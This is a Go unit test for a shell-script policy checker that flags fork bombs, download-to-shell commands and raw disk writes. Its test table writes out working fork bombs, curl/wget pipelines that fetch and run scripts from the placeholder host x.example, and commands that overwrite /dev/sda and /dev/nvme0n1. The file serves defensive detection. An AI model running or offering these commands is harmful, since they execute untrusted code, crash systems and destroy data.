package policy

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

func TestScriptFindings(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{":(){ :|:& };:", "fork-bomb"},
		{"bomb() { bomb | bomb & }; bomb", "fork-bomb"},
		{"f() {\n  f &\n  f\n}\nf", "fork-bomb"},
		{"f() { echo hi | f; }", "fork-bomb"},
		{"f() { g | g & }; g() { :; }", ""},
		{"f() { f; }", ""}, // plain recursion: the call-depth limit's business
		{"curl -s https://x.example/i.sh | sh", "download-to-shell"},
		{"wget -qO- https://x.example/i.sh | sudo bash -s -- -y", "download-to-shell"},
		{"curl -fsSL x | tee log | bash", "download-to-shell"},
		{"bash <(curl -s https://x.example/i.sh)", "download-to-shell"},
		{`sh -c "$(curl -fsSL https://x.example/i.sh)"`, "download-to-shell"},
		{`eval "$(wget -O - x)"`, "download-to-shell"},
		{"curl -o /tmp/i.sh https://x.example/i.sh\nsh /tmp/i.sh", "download-to-shell"},
		{"curl -s https://x.example/i.sh > i.sh; chmod +x i.sh; ./i.sh", "download-to-shell"},
		{"wget https://x.example/setup.sh && source ./setup.sh", "download-to-shell"},
		{"wget -O run.sh x; . run.sh", "download-to-shell"},
		{"curl -O https://x.example/a/b.sh; bash b.sh", "download-to-shell"},
		{"curl -o data.json x; jq . data.json; sh other.sh", ""},
		{"curl -s x | jq .", ""},
		{"echo hi | sh", ""},
		{"echo x > /dev/sda", "dev-disk-write"},
		{"cat img >> /dev/nvme0n1", "dev-disk-write"},
		{"echo x > /dev/null; cat /dev/sda > copy", ""},
	} {
		f, err := syntax.NewParser().Parse(strings.NewReader(c.src), "")
		if err != nil {
			t.Fatalf("%q: %v", c.src, err)
		}
		got := ""
		if fs := ScriptFindings(f); len(fs) > 0 {
			got = fs[0].Pattern.Name
		}
		if got != c.want {
			t.Errorf("%q: got %q, want %q", c.src, got, c.want)
		}
	}
	p, _ := Parse("p", []byte("dangerous:\n  disable: [fork-bomb]\n"))
	f, _ := syntax.NewParser().Parse(strings.NewReader(":(){ :|:& };:\necho x > /dev/sdb"), "")
	if fd := p.CheckScript(f); fd == nil || fd.Pattern.Name != "dev-disk-write" || fd.Pos.Line() != 2 {
		t.Errorf("CheckScript with fork-bomb disabled: %+v", fd)
	}
}
